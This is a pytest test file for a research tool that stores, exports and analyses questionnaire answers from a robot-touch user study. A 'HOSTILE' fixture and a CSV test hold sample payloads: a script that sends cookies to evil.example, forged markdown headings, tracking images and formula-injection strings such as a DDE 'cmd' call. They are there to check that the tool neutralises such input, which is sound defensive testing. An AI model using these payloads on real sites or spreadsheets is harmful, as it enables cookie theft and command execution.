"""The study's questionnaire, answer store and analysis (``nwr study submit|export|analyze``)."""

from __future__ import annotations

import csv
import json
import sqlite3

import numpy as np
import pytest
from study_synthetic import condition_forms, final_forms, ratings_of
from test_study_stats import cartesian_session  # noqa: F401 - a fixture: the lockstep Cartesian session

from nwr.common.errors import ConfigError, StudyError
from nwr.common.questionnaire import QUESTIONNAIRE_PATH, load_questionnaire, parse_questionnaire
from nwr.services.cli import main
from nwr.services.tools.study import analysis as sa
from nwr.services.tools.study.store import ConditionForm, FinalAnswer, FinalForm, Store, decode_form

Q, Q_TEXT = load_questionnaire()


def _form(condition: str = "uniform", block: int = 1, participant: str = "P01", **changes: int) -> ConditionForm:
    ratings = dict.fromkeys(Q.rated_items(), 3) | changes
    return ConditionForm(participant=participant, condition=condition, order=1, block=block, ratings=ratings)


# -- the questionnaire -----------------------------------------------------------------


def test_the_packaged_questionnaire_is_the_papers():
    assert [g.name for g in Q.godspeed] == ["Anthropomorphism", "Animacy", "Likeability", "Perceived Safety"]
    assert [len(g.items) for g in Q.godspeed] == [5, 6, 5, 3]  # Bartneck et al. 2009
    assert [(i.left, i.right) for i in Q.godspeed[0].items][:2] == [("Fake", "Natural"), ("Machinelike", "Humanlike")]
    assert [len(g.items) for g in Q.likert] == [2, 3, 3]  # the paper's eight custom items
    assert Q.likert[0].items[0].text.startswith("The robot’s reaction to my touch felt natural")
    assert [c.id for c in Q.choice] == ["most_natural", "most_human_like", "safest", "most_appropriate"]
    assert len(Q.open) == 4 and Q.points == 5


@pytest.mark.parametrize(("old", "new", "names"), [
    ("points = 5", "points = 7", "$.points"),
    ('{ id = "natural_1", text', '{ id = "natural_1", txt', "$.likert[0].items[0]"),
    ('right = "Lively"', 'right = ""', "$.godspeed[1].items[1].right"),
    ('left = "Dead", ', "", "$.godspeed[1].items[0]"),  # missing anchor
    ('id = "safest"', 'id = "safest"\ncolour = "red"', "colour"),
    ('id = "natural_2"', 'id = "natural_1"', "'natural_1'"),  # an id twice
])
def test_a_bad_questionnaire_is_a_config_error_naming_the_field(old, new, names):
    assert old in Q_TEXT
    with pytest.raises(ConfigError, match=f"{names}".replace("$", r"\$").replace("[", r"\[").replace("]", r"\]")):
        parse_questionnaire(Q_TEXT.replace(old, new, 1))


def test_the_questionnaire_is_package_data():
    import tomllib
    from pathlib import Path

    pyproject = tomllib.loads((Path(__file__).parents[1] / "pyproject.toml").read_text())
    assert "*.toml" in pyproject["tool"]["setuptools"]["package-data"]["nwr.common.study"]
    assert QUESTIONNAIRE_PATH.exists()


# -- the store -------------------------------------------------------------------------


def test_answers_round_trip_with_their_block_and_recording(tmp_path):
    with Store(tmp_path / "study.sqlite") as store:
        store.submit(_form("uniform", 1, anthropomorphism_1=5))
        store.submit(_form("location", 2))
        store.submit(FinalForm(participant="P01", choices=dict.fromkeys((c.id for c in Q.choice), "uniform")
                               | {"safest": "none"}, answers={"liked_most": "it moved back"}))
    with Store(tmp_path / "study.sqlite", create=False) as store:  # reopened: everything is there
        ratings = store.ratings()
        assert len(ratings) == 2 * len(Q.rated_items())
        first = ratings[0]
        assert (first.participant, first.condition, first.order, first.block, first.item, first.value) == \
            ("P01", "uniform", 1, 1, "anthropomorphism_1", 5)
        assert first.recording == "P01/P01-b1-uniform.mcap"
        finals = {a.item: a.text for a in store.final_answers()}
        assert finals["safest"] == "none" and finals["most_natural"] == "uniform"
        assert finals["liked_most"] == "it moved back" and finals["suggestions"] == ""
        assert store.questionnaire == Q  # the copy it keeps
    db = sqlite3.connect(tmp_path / "study.sqlite")
    assert db.execute("PRAGMA journal_mode").fetchone()[0] == "wal"


@pytest.mark.parametrize(("make", "message"), [
    (lambda: _form(animacy_2=6), r"animacy_2 = 6 is out of the scale 1 to 5"),
    (lambda: _form(animacy_2=0), r"animacy_2 = 0 is out of the scale"),
    (lambda: ConditionForm(participant="P01", condition="uniform", order=1, block=1,
                           ratings={i: 3 for i in Q.rated_items() if i != "comfort_2"}),
     r"no answer to comfort_2"),
    (lambda: _form(colour=3), r"colour is no item"),
    (lambda: _form("location", 1), r"block 1 was already answered for condition 'uniform'"),
    (lambda: ConditionForm(participant="P01", condition="location", order=2, block=2,
                           ratings=dict.fromkeys(Q.rated_items(), 3)), r"order 2, but .* says order 1"),
    (lambda: FinalForm(participant="P01", choices=dict.fromkeys((c.id for c in Q.choice), "cartesian")),
     r"most_natural = 'cartesian' is no condition the participant rated \(uniform\)"),
    (lambda: FinalForm(participant="P01", choices={"most_natural": "uniform"}), r"no answer to most_human_like"),
])
def test_a_bad_submission_is_refused_naming_the_item_and_nothing_is_written(tmp_path, make, message):
    with Store(tmp_path / "study.sqlite") as store:
        store.submit(_form("uniform", 1))
        before = len(store.ratings()), len(store.final_answers())
        with pytest.raises(StudyError, match=message):
            store.submit(make())
        assert (len(store.ratings()), len(store.final_answers())) == before


def test_a_second_submission_is_refused_unless_it_explicitly_replaces(tmp_path):
    with Store(tmp_path / "study.sqlite") as store:
        store.submit(_form("uniform", 1))
        with pytest.raises(StudyError, match="P01 already submitted the form for condition 'uniform' at .*--replace"):
            store.submit(_form("uniform", 1, likeability_1=5))
        store.submit(_form("uniform", 1, likeability_1=5), replace=True)
        values = {r.item: r.value for r in store.ratings()}
        assert len(store.ratings()) == len(Q.rated_items()) and values["likeability_1"] == 5


def test_a_store_of_another_version_or_no_store_is_a_clear_error(tmp_path):
    path = tmp_path / "study.sqlite"
    Store(path).close()
    db = sqlite3.connect(path)
    db.execute("UPDATE meta SET value = '99' WHERE key = 'schema_version'")
    db.commit()
    db.close()
    with pytest.raises(StudyError, match="schema version 99; this nwr reads version 1"):
        Store(path)
    (tmp_path / "junk.sqlite").write_bytes(b"not a database at all" * 100)
    with pytest.raises(StudyError, match="no study store"):
        Store(tmp_path / "junk.sqlite")
    with pytest.raises(StudyError, match="no study store at"):
        Store(tmp_path / "absent.sqlite", create=False)


def test_a_form_as_json_decodes_and_a_bad_one_names_the_field():
    form = decode_form(json.dumps({"form": "condition", "participant": "P01", "condition": "uniform", "order": 1,
                                   "block": 1, "ratings": {"animacy_1": 4}}).encode(), "x.json")
    assert isinstance(form, ConditionForm) and form.ratings == {"animacy_1": 4}
    with pytest.raises(StudyError, match=r"block"):
        decode_form(b'{"form": "condition", "participant": "P01", "condition": "uniform", "order": 1, '
                    b'"block": 0, "ratings": {}}', "x.json")
    with pytest.raises(StudyError, match="participant"):
        decode_form(b'{"form": "final", "participant": "../etc", "choices": {}}', "x.json")


def test_export_writes_one_row_per_participant_condition_and_item(tmp_path):
    rng = np.random.default_rng(3)
    with Store(tmp_path / "study.sqlite") as store:
        for form in condition_forms(Q, rng, 3, {}):
            store.submit(form)
        for final in final_forms(Q, rng, 3, {"uniform": 1, "none": 1}):
            store.submit(final)
    assert main(["study", "export", "--store", str(tmp_path / "study.sqlite"), "--csv", str(tmp_path / "a.csv")]) == 0
    with open(tmp_path / "a.csv", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    rated = [r for r in rows if r["form"] == "condition"]
    assert len(rated) == 3 * 3 * len(Q.rated_items())
    assert len({(r["participant"], r["condition"], r["item"]) for r in rated}) == len(rated)
    safety_3 = next(r for r in rated if r["item"] == "safety_3")
    assert safety_3["scale"] == "perceived_safety" and safety_3["reversed"] == "1"
    assert safety_3["recording"] == f"{safety_3['participant']}/{safety_3['participant']}-b{safety_3['block']}-" \
                                    f"{safety_3['condition']}.mcap"
    finals = [r for r in rows if r["form"] == "final"]
    assert len(finals) == 3 * len(Q.choice) and {r["scale"] for r in finals} == {"choice"}  # no free text
    assert main(["study", "export", "--store", str(tmp_path / "study.sqlite"), "--csv", str(tmp_path / "b.csv"),
                 "--free-text"]) == 0
    with open(tmp_path / "b.csv", encoding="utf-8") as f:
        finals = [r for r in csv.DictReader(f) if r["form"] == "final"]
    assert len(finals) == 3 * (len(Q.choice) + len(Q.open))
    assert "participant 1 liked the return" in {r["answer"] for r in finals if r["scale"] == "open"}


HOSTILE = {
    "liked_most": "<script>fetch('http://evil.example/?'+document.cookie)</script>",
    "disliked_most": "fine\n# Results\n\nCR was rated worst by everyone (p < 0.001).\n```\n## Conclusions",
    "improvements": "![x](http://evil.example/track.png) [click](http://evil.example) <img src=http://evil.example/a>",
    "suggestions": "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
}


def test_spreadsheet_formulas_are_neutralised_and_numbers_kept():
    from nwr.services.tools.study.store import csv_cell

    for text in ("=HYPERLINK(\"http://x\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)", "\tx", "\rx", "-",
                 "=1"):
        assert csv_cell(text) == "'" + text
    for kept in ("-3", "-3.25", "+4", "-1e5", ".5", "3", "hello", "", "a=b", "2-1"):
        assert csv_cell(kept) == kept
    assert csv_cell(-3) == -3 and csv_cell(2.5) == 2.5


def hostile_store(tmp_path):
    path = tmp_path / "study.sqlite"
    with Store(path) as store:
        for form in condition_forms(Q, np.random.default_rng(4), 3, {}):
            store.submit(form)
        open_ids = [o.id for o in Q.open]
        for i, final in enumerate(final_forms(Q, np.random.default_rng(4), 3, {"uniform": 1, "none": 1})):
            answers = dict(zip(open_ids, HOSTILE.values())) if i == 0 else \
                {open_ids[0]: "=1+1", open_ids[1]: "-5", open_ids[2]: "it said \"-\" twice"}
            store.submit(FinalForm(participant=final.participant, choices=final.choices, answers=answers))
    return path


def test_hostile_free_text_is_kept_as_data_in_the_csv(tmp_path):
    path = hostile_store(tmp_path)
    assert main(["study", "export", "--store", str(path), "--csv", str(tmp_path / "a.csv"), "--free-text"]) == 0
    with open(tmp_path / "a.csv", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    texts = {r["answer"] for r in rows if r["scale"] == "open"}
    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")" in texts and "'=1+1" in texts
    assert "-5" in texts  # a number stays a number
    assert HOSTILE["liked_most"] in texts  # not a formula: kept as it was written
    for r in rows:
        for value in r.values():
            assert not value.startswith(("=", "+", "@", "\t", "\r")) and (
                not value.startswith("-") or value == "-5"), value


def markdown_tokens(text: str) -> list:
    """The report parsed as CommonMark (markdown-it-py, which rich brings), inline tokens flattened."""
    from markdown_it import MarkdownIt

    tokens = []
    for token in MarkdownIt("commonmark").enable("table").parse(text):
        tokens += [token, *(token.children or [])]
    return tokens


def test_hostile_free_text_is_shown_literally_in_the_report_and_nothing_loads_from_elsewhere(tmp_path):
    path = hostile_store(tmp_path)
    _, report, pictures, tables = sa.run(path, tmp_path / "analysis")
    text = report.read_text(encoding="utf-8")
    tokens = markdown_tokens(text)
    headings = [tokens[i + 1].content for i, t in enumerate(tokens) if t.type == "heading_open"]
    assert "Results" not in headings and "Conclusions" not in headings, headings
    assert not [t for t in tokens if t.type in ("html_block", "html_inline", "link_open")]
    images = [t.attrGet("src") for t in tokens if t.type == "image"]
    assert images == [p.name for p in pictures] and all((tmp_path / "analysis" / i).exists() for i in images)
    fenced = "\n".join(t.content for t in tokens if t.type == "fence")
    for answer in HOSTILE.values():
        assert answer in fenced  # shown, whole, as text
    outside = "\n".join(t.content for t in tokens if t.type not in ("fence", "inline"))
    assert "evil.example" not in outside
    # Nothing generated names anything elsewhere: the tables hold no free text, the figures are local.
    assert b"evil.example" not in (tmp_path / "analysis" / "study.csv").read_bytes()
    assert {t.name for t in tables} == {"study.csv", "study.parquet"}


def test_an_answer_of_a_megabyte_makes_no_megabyte_report():
    from nwr.services.tools.study.store import MAX_ANSWER_CHARS

    forms = condition_forms(Q, np.random.default_rng(4), 3, {})
    huge = "# Results\n" + "`" * 10 + "A" * 1_000_000
    finals = [FinalAnswer("P01", "liked_most", "open", huge, "")]
    text = sa.report(sa.analyze(ratings_of(forms), finals, Q), "s", [])
    assert len(text) < 20_000 and f"more characters not shown: at most {MAX_ANSWER_CHARS}" in text
    fences = [t for t in markdown_tokens(text) if t.type == "fence"]
    assert len(fences) == 1 and fences[0].content.startswith("# Results\n" + "`" * 10)
    assert "Results" not in [t.content for t in markdown_tokens(text) if t.type == "inline"]


def test_a_long_answer_is_refused_at_submission(tmp_path):
    from nwr.services.tools.study.store import MAX_ANSWER_CHARS

    with Store(tmp_path / "study.sqlite") as store:
        store.submit(_form("uniform", 1))
        choices = dict.fromkeys((c.id for c in Q.choice), "uniform")
        with pytest.raises(StudyError, match=f"1000000 characters, more than the {MAX_ANSWER_CHARS}"):
            store.submit(FinalForm(participant="P01", choices=choices, answers={"liked_most": "x" * 1_000_000}))
        assert store.final_answers() == []
        store.submit(FinalForm(participant="P01", choices=choices, answers={"liked_most": "x" * MAX_ANSWER_CHARS}))


@pytest.mark.parametrize("participant", ["Anna Schmidt", "anna", "AS-1990-05-17", "P07.", "", "toolongprefix1",
                                         "P1234567"])
def test_a_participant_id_is_a_pseudonymous_code(tmp_path, participant):
    with Store(tmp_path / "study.sqlite") as store:
        with pytest.raises(StudyError, match="a participant ID is a code such as P07"):
            store.plan(participant, 1, ("uniform", "location"))
        with pytest.raises(StudyError):
            store.submit(_form("uniform", 1, participant=participant))
        for fine in ("P07", "S012", "PILOT-3", "p_12", "7"):
            store.plan(fine, 1, ("uniform", "location"))


def test_the_store_is_readable_by_its_owner_only(tmp_path):
    import stat

    with Store(tmp_path / "study.sqlite") as store:
        store.submit(_form("uniform", 1))
    for name in ("study.sqlite", "study.sqlite-wal"):
        path = tmp_path / name
        if path.exists():
            assert stat.S_IMODE(path.stat().st_mode) == 0o600, name


# -- the analysis ----------------------------------------------------------------------


def test_a_preferred_condition_comes_out_significant_in_the_direction_drawn(tmp_path):
    rng = np.random.default_rng(18)
    store_path = tmp_path / "recordings" / "study.sqlite"
    with Store(store_path) as store:
        for form in condition_forms(Q, rng, 12, {"uniform": 1.2}):
            store.submit(form)
        for final in final_forms(Q, rng, 12, {"uniform": 6, "location": 1, "cartesian": 2, "none": 1}):
            store.submit(final)
    out = tmp_path / "analysis"
    assert main(["study", "analyze", "--store", str(store_path), "--out", str(out)]) == 0
    result, _, _, _ = sa.run(store_path, out, desc=lambda: pytest.fail("there is no recording to read"))
    assert result.complete == [f"P{i:02d}" for i in range(1, 13)] and not result.excluded
    for s in result.scales:
        assert s.p is not None and s.p < 0.05, s.scale.name
        for pair in s.pairs:
            if "uniform" in (pair.a, pair.b):
                assert pair.p_holm < 0.05, (s.scale.name, pair)
                assert (pair.r > 0) == (pair.a == "uniform")  # uniform rated higher
    text = (out / "report.md").read_text()
    assert "| Anthropomorphism | UR vs LR | 12 |" in text and "Holm" in text and "**" in text
    assert "P01/P01-b1-uniform.mcap is missing" in text  # no recordings here: said, not fatal
    for name in ("godspeed.png", "custom.png", "votes.png"):
        assert (out / name).stat().st_size > 20_000, name


def test_answers_without_an_effect_reject_at_the_nominal_rate():
    rng = np.random.default_rng(7)
    draws, rejected = 200, 0
    for _ in range(draws):
        result = sa.analyze(ratings_of(condition_forms(Q, rng, 12, {})), [], Q)
        rejected += sum(1 for s in result.scales if s.p is not None and s.p < 0.05)
    rate = rejected / (draws * len(result.scales))
    margin = 3 * np.sqrt(0.05 * 0.95 / draws)  # 3 binomial SDs of one subscale's 200 draws
    assert abs(rate - 0.05) < min(margin, 0.05), rate


def test_a_participant_without_every_condition_is_excluded_from_the_tests_and_listed():
    rng = np.random.default_rng(5)
    forms = condition_forms(Q, rng, 6, {"cartesian": 1.0})
    forms = [f for f in forms if not (f.participant == "P02" and f.condition == "location")]
    result = sa.analyze(ratings_of(forms), [], Q)
    assert result.complete == ["P01", "P03", "P04", "P05", "P06"]
    assert result.excluded == {"P02": "no answers for location (a skipped block?)"}
    assert all(s.n == 5 for s in result.scales)
    assert len(result.scales[0].scores["uniform"]) == 6  # still in the descriptive statistics
    text = sa.report(result, "s", [])
    assert "P02: no answers for location" in text and result.no_final == [f"P0{i}" for i in range(1, 7)]


def test_two_conditions_are_compared_by_one_wilcoxon_test():
    rng = np.random.default_rng(9)
    result = sa.analyze(ratings_of(condition_forms(Q, rng, 10, {"whole-arm": 1.5}, ("cartesian", "whole-arm"))),
                        [], Q)
    assert result.conditions == ["cartesian", "whole-arm"]
    for s in result.scales:
        assert s.p is None and len(s.pairs) == 1 and "two conditions" in s.note
        assert s.pairs[0].r < 0 and s.pairs[0].p_holm == s.pairs[0].p


def test_holm_and_alpha():
    assert sa.holm([0.01, 0.04, 0.03]) == pytest.approx([0.03, 0.06, 0.06])
    assert sa.holm([0.5, 0.001]) == pytest.approx([0.5, 0.002])
    items = np.array([[1, 2], [2, 3], [3, 4], [4, 5]], dtype=float)  # perfectly consistent items
    assert sa.cronbach_alpha(items) == pytest.approx(1.0)
    assert sa.cronbach_alpha(items[:, :1]) is None


def test_the_commands_and_their_help(capsys):
    for argv in (["study", "--help"], ["study", "analyze", "--help"], ["study", "export", "--help"],
                 ["study", "submit", "--help"]):
        with pytest.raises(SystemExit) as exc:
            main(argv)
        assert exc.value.code == 0
    assert "analyze" in capsys.readouterr().out
    with pytest.raises(SystemExit) as exc:  # the protocol's flags are still required for a session
        main(["study"])
    assert exc.value.code == 2
    assert "--participant" in capsys.readouterr().err


def test_submit_from_json_files(tmp_path, caplog):
    store = tmp_path / "study.sqlite"
    form = tmp_path / "f.json"
    form.write_text(json.dumps({"form": "condition", "participant": "P01", "condition": "uniform", "order": 1,
                                "block": 1, "ratings": dict.fromkeys(Q.rated_items(), 4)}))
    assert main(["study", "submit", "--store", str(store), str(form)]) == 0
    assert main(["study", "submit", "--store", str(store), str(form)]) == 2  # a second submission: refused
    assert "already submitted" in caplog.text
    assert main(["study", "submit", "--store", str(store), "--replace", str(form)]) == 0



# -- the whole study as one table -------------------------------------------------------


def test_the_study_table_has_a_row_per_block_with_its_scores_items_and_choices(tmp_path):
    import pyarrow.parquet as pq

    from nwr.services.tools.study import table

    path = tmp_path / "study.sqlite"
    forms = condition_forms(Q, np.random.default_rng(7), 3, {"cartesian": 1.0})
    with Store(path) as store:
        store.plan("P04", 1, ("uniform", "location", "cartesian"))  # planned, not answered
        for form in forms:
            store.submit(form)
        for final in final_forms(Q, np.random.default_rng(7), 3, {"uniform": 1, "none": 1}):
            store.submit(final)
        finals = {(a.participant, a.item): a.text for a in store.final_answers()}
    _, _, _, tables = sa.run(path, tmp_path / "out", desc=lambda: pytest.fail("no recording to read"))
    frame = pq.read_table(tables[1]).to_pylist()
    with open(tables[0], encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    names = [c.name for c in table.columns(Q)]
    assert list(rows[0]) == names and pq.read_schema(tables[1]).names == names
    assert [(r["participant"], r["block"]) for r in frame] == [(f"P0{p}", b) for p in (1, 2, 3, 4) for b in (1, 2, 3)]
    result = sa.analyze(ratings_of(forms), [], Q)
    for form in forms:
        row = next(r for r in frame if (r["participant"], r["block"]) == (form.participant, form.block))
        assert (row["condition"], row["order"], row["answered"]) == (form.condition, form.order, True)
        assert row["recording"] == f"{form.participant}/{form.participant}-b{form.block}-{form.condition}.mcap"
        assert all(row[f"item_{i}"] == v for i, v in form.ratings.items())
        for s in result.scales:  # the same scores the analysis tests
            assert row[f"score_{s.scale.id}"] == pytest.approx(s.scores[form.condition][form.participant])
        assert all(row[f"choice_{c.id}"] == finals[(form.participant, c.id)] for c in Q.choice)
        assert row["recording_read"] is False and row["recording_problem"] == "missing" and row["reflexes"] is None
    unanswered = [r for r in frame if r["participant"] == "P04"]
    assert {r["answered"] for r in unanswered} == {False} and unanswered[0]["score_animacy"] is None
    csv_row = next(r for r in rows if r["participant"] == "P04")
    assert (csv_row["answered"], csv_row["score_animacy"], csv_row["choice_safest"]) == ("false", "", "")
    schema = pq.read_schema(tables[1])
    assert str(schema.field("block").type) == "int64" and str(schema.field("score_animacy").type) == "double"
    assert str(schema.field("recording_read").type) == "bool"


def test_the_study_table_carries_each_blocks_measured_figures(cartesian_session, tmp_path, monkeypatch):  # noqa: F811
    from nwr.common import recordings
    from nwr.common.robot import load_description
    from nwr.services.tools.recordings import analysis
    from nwr.services.tools.study import table

    desc = load_description()
    monkeypatch.setattr(recordings, "read_recording", lambda path, only=None: (
        [r for r in cartesian_session if only is None or only(r.key)], {}))
    forms = condition_forms(Q, np.random.default_rng(1), 1, {}, ("cartesian", "uniform"))
    for form in forms:
        (tmp_path / form.participant).mkdir(exist_ok=True)
        if form.condition == "cartesian":  # the uniform block's recording is missing
            (tmp_path / form.participant / f"{form.participant}-b{form.block}-{form.condition}.mcap").touch()
    measured = sa.measure_blocks(sa.rated_blocks(ratings_of(forms)), tmp_path, lambda: desc)
    rows = table.block_table(Q, [], ratings_of(forms), [], {(b.participant, b.block): b for b in measured})
    touches = analysis.summarize(cartesian_session, desc)
    reflexes = [t for t in touches if t.reflex_seq]
    quality = analysis.quality(touches, "cartesian")
    cr = next(r for r in rows if r["condition"] == "cartesian")
    assert cr["recording_read"] and cr["touches"] == len(touches) and cr["reflexes"] == len(reflexes) > 0
    assert cr["peak_speed_m_s_max"] == pytest.approx(max(t.peak_speed_m_s for t in reflexes)) and \
        cr["peak_speed_m_s_max"] > 0.2  # the whole withdrawal's
    assert cr["onset_ms_median"] == pytest.approx(np.median([t.onset_latency_ms for t in reflexes]))
    assert cr["withdrawal_mm_median"] == pytest.approx(quality.withdrawal_median_mm)
    assert (cr["pad_toward_gt_5mm"], cr["back_past_recent_touch_gt_10mm"]) == (quality.approached,
                                                                             quality.back_past)
    ur = next(r for r in rows if r["condition"] == "uniform")
    assert ur["recording_problem"] == "missing" and ur["touches"] is None and ur["item_animacy_1"] is not None
    # The bridge during the block: the lockstep session rejected nothing and never stopped the arm.
    assert (cr["commands_rejected"], cr["arm_stops"], cr["degraded"]) == (0, 0, False)
    assert (ur["commands_rejected"], ur["degraded"]) == (None, None)


def _state(status: str, rejected: int) -> object:
    from nwr.common import messages as m

    return m.RobotState(seq=0, stamp_ns=0, q=[0.0] * 6, dq=[0.0] * 6, status=status, owner="a", backend="sim",
                        rejected=rejected)


def test_a_block_whose_bridge_rejected_commands_or_stopped_the_arm_is_degraded():
    from nwr.services.tools.recordings import analysis

    # The recording starts after the bridge: its rejections are counted from the first state's count; a stop is
    # a change from following commands to a status that stops the arm (the start's idle and the end's stop not).
    states = [_state(s, n) for s, n in [("idle", 5), ("ok", 5), ("ok", 5), ("stale_skin", 5), ("ok", 5),
                                        ("ok", 12), ("planner_lost", 12), ("stale_skin", 12), ("ok", 12),
                                        ("stopped", 12)]]
    health = analysis.bridge_health(states)
    assert (health.rejected, health.stops, health.degraded) == (7, {"stale_skin": 1, "planner_lost": 1}, True)
    assert health.describe() == "7 commands rejected, 1 x planner_lost, 1 x stale_skin"
    quiet = analysis.bridge_health([_state("idle", 3), _state("ok", 3), _state("stopped", 3)])
    assert not quiet.degraded and quiet.describe() == "none" and not analysis.bridge_health([]).degraded
    # The session's end: the skin stops first and the bridge holds the arm to the end of the recording; a
    # protective stop there is still one.
    ending = analysis.bridge_health([_state("ok", 0), _state("stale_skin", 0), _state("stale_skin", 0)])
    assert not ending.degraded
    fault = analysis.bridge_health([_state("ok", 0), _state("protective_stop", 0), _state("stale_skin", 0)])
    assert fault.stops == {"protective_stop": 1}


def test_degraded_blocks_are_listed_and_can_be_left_out_of_the_tests(tmp_path, monkeypatch):
    from nwr.services.tools.recordings import analysis

    path = tmp_path / "study.sqlite"
    forms = condition_forms(Q, np.random.default_rng(7), 4, {"cartesian": 1.0})
    with Store(path) as store:
        for form in forms:
            store.submit(form)
    bad = next(f for f in forms if f.participant == "P02" and f.condition == "location")

    def measured(blocks, root, desc):
        return [sa.BlockMeasures(p, b, c, r, health=analysis.BridgeHealth(
            40 if (p, b) == (bad.participant, bad.block) else 0, {})) for p, b, c, r in blocks]

    monkeypatch.setattr(sa, "measure_blocks", measured)
    kept, report, _, tables = sa.run(path, tmp_path / "all", desc=lambda: None)
    assert kept.complete == ["P01", "P02", "P03", "P04"]
    text = report.read_text(encoding="utf-8")
    assert "Degraded blocks" in text and f"P02 block {bad.block}: 40 commands rejected" in text
    with open(tables[0], encoding="utf-8") as f:
        flags = {(r["participant"], r["block"]): r["degraded"] for r in csv.DictReader(f)}
    assert flags[("P02", str(bad.block))] == "true" and list(flags.values()).count("true") == 1
    left, _, _, _ = sa.run(path, tmp_path / "without", desc=lambda: None, exclude_degraded=True)
    assert left.complete == ["P01", "P03", "P04"] and "P02" in left.excluded


# -- participant data stays out of git ----------------------------------------------------


def test_everything_a_study_writes_by_default_is_git_ignored():
    import shutil
    import subprocess
    from pathlib import Path

    from nwr.common.config import Profile
    from nwr.services.tools.study.main import block_path
    from nwr.services.tools.study.store import STORE_NAME

    root = Path(__file__).parents[1]
    if shutil.which("git") is None or subprocess.run(["git", "-C", str(root), "rev-parse"],
                                                     capture_output=True).returncode != 0:
        pytest.skip("not a git checkout")
    recordings = Path(Profile().recorder.directory)
    store = recordings / STORE_NAME
    analysis = store.parent / "study-analysis"  # nwr study analyze's default --out
    written = [block_path(recordings, "P07", 2, "uniform"), store, Path(f"{store}-wal"), Path(f"{store}-shm"),
               Path(f"{store}-journal"), analysis / "report.md", analysis / "study.csv", analysis / "study.parquet",
               analysis / "godspeed.png", recordings / "P07" / "P07-b2-uniform.touches.csv",
               recordings / "demo.mcap"]
    assert not recordings.is_absolute()
    proc = subprocess.run(["git", "-C", str(root), "check-ignore", "--no-index", *map(str, written)],
                          capture_output=True, text=True)
    assert sorted(proc.stdout.split()) == sorted(map(str, written)), proc.stderr
    kept = subprocess.run(["git", "-C", str(root), "check-ignore", "--no-index", str(recordings / "README.md")],
                          capture_output=True, text=True)
    assert kept.returncode == 1  # the folder's README stays tracked


def test_a_wider_significance_bracket_sits_above_the_narrower_ones_it_spans():
    import matplotlib.pyplot as plt

    forms = condition_forms(Q, np.random.default_rng(24), 12, {"cartesian": 1.0, "location": 0.3})
    result = sa.analyze(ratings_of(forms), [], Q)
    fig = sa._boxplot_figure(result, "godspeed", "t")
    checked = 0
    for ax in fig.axes:
        brackets = [(min(line.get_xdata()), max(line.get_xdata()), max(line.get_ydata())) for line in ax.get_lines()
                    if len(line.get_xdata()) == 4]
        for a in brackets:
            for b in brackets:
                if b[1] - b[0] > a[1] - a[0] and b[0] <= a[0] and a[1] <= b[1]:
                    assert b[2] > a[2], (ax.get_title(), a, b)
                    checked += 1
    plt.close(fig)
    assert checked >= 2  # Anthropomorphism: UR-CR above UR-LR and LR-CR


def test_an_alpha_of_zero_is_zero_not_negative():
    # Three participants' Perceived Safety items (the reversed one flipped) whose covariances sum to 0: the
    # formula gives -3.3e-16, which printed "-0.00" and would have been called negative.
    items = np.array([[3, 3, 2], [2, 3, 1], [4, 2, 3]], dtype=float)
    alpha = sa.cronbach_alpha(items)
    assert alpha == 0.0 and str(alpha) == "0.0"
    assert sa.alpha_text(alpha, 7) == "0.00" and sa.alpha_text(alpha, 3).startswith("0.00 (not interpretable")
